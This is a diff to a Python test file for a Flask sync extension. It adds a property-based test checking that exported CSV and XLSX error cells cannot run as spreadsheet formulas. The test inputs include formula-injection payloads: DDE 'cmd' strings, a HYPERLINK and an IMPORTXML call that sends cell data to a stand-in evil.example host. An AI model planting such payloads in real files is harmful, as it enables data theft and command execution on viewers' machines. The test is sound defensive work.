@@ -8,25 +8,35 @@ without touching this file (or the test fails, asking for a sample value of its 
 * No ``url=`` return address sends the viewer off the site: every redirect and every link
   or form target built from one stays on the site, as Chromium's own URL parser reads it.
 * The static blueprint serves the plugin's assets only.
+* No exported CSV or XLSX cell can run as a spreadsheet formula, whatever the recorded text.
 """
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 import typing as t
 from urllib.parse import parse_qsl
 
+import openpyxl
 import pytest
 import sqlalchemy as sa
 from flask import Flask
 from flask import url_for
 from flask_admin import Admin
 from flask_sqlalchemy import SQLAlchemy
+from hypothesis import HealthCheck
+from hypothesis import given
+from hypothesis import settings
+from hypothesis import strategies as st
 from werkzeug.routing import Rule
 
 from flask_dynamics_sync import DynamicsSync
 from flask_dynamics_sync.extension import BLUEPRINT_NAME
+from flask_dynamics_sync.models import QueueItem
+from flask_dynamics_sync.models import SyncError
 from flask_dynamics_sync.models import metadata
 
 from .conftest import ERRORS_URL
@@ -306,3 +316,36 @@ def test_no_return_address_leads_off_the_site(client, errors_dataset, url_parser
     destinations = dict(zip(targets, url_parser(targets)))
 
     assert {target: where for target, where in destinations.items() if where != SITE.rstrip("/")} == {}
+
+
+# -- exported cells -------------------------------------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+formula_text = st.builds(
+    lambda start, rest: start + rest,
+    st.sampled_from([*FORMULA_STARTS, " =", "\n=", ""]),
+    st.sampled_from(['HYPERLINK("http://evil.example","x")', "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0",
+                     "1+1", "A1", "IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"])
+    | st.text(max_size=30),
+)
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(label=formula_text, message=formula_text, code=formula_text.map(lambda value: value[:32]),
+       record_id=formula_text.map(lambda value: value.replace("\x00", "")[:128]))
+def test_no_exported_cell_can_run_as_a_formula(client, sync, db, label, message, code, record_id):
+    for model in (SyncError, QueueItem):
+        db.session.execute(sa.delete(model))
+    db.session.commit()
+    sync.enqueue("Lead", record_id or "r", "insert", label=label)
+    db.session.commit()
+    [record] = sync.claim()
+    sync.mark_failed(record, code.strip() or "0x1", message)
+
+    text = client.get(ERRORS_URL + "export/csv/").get_data(as_text=True).lstrip("\ufeff")
+    [header, row] = list(csv.reader(io.StringIO(text)))
+    book = openpyxl.load_workbook(io.BytesIO(client.get(ERRORS_URL + "export/xlsx/").data))
+    cells = [cell for cells in book.active.iter_rows(min_row=2) for cell in cells if cell.value is not None]
+
+    assert [value for value in row if value.startswith(FORMULA_STARTS)] == []
+    assert [c.value for c in cells if c.data_type == "f" or str(c.value).startswith(FORMULA_STARTS)] == []
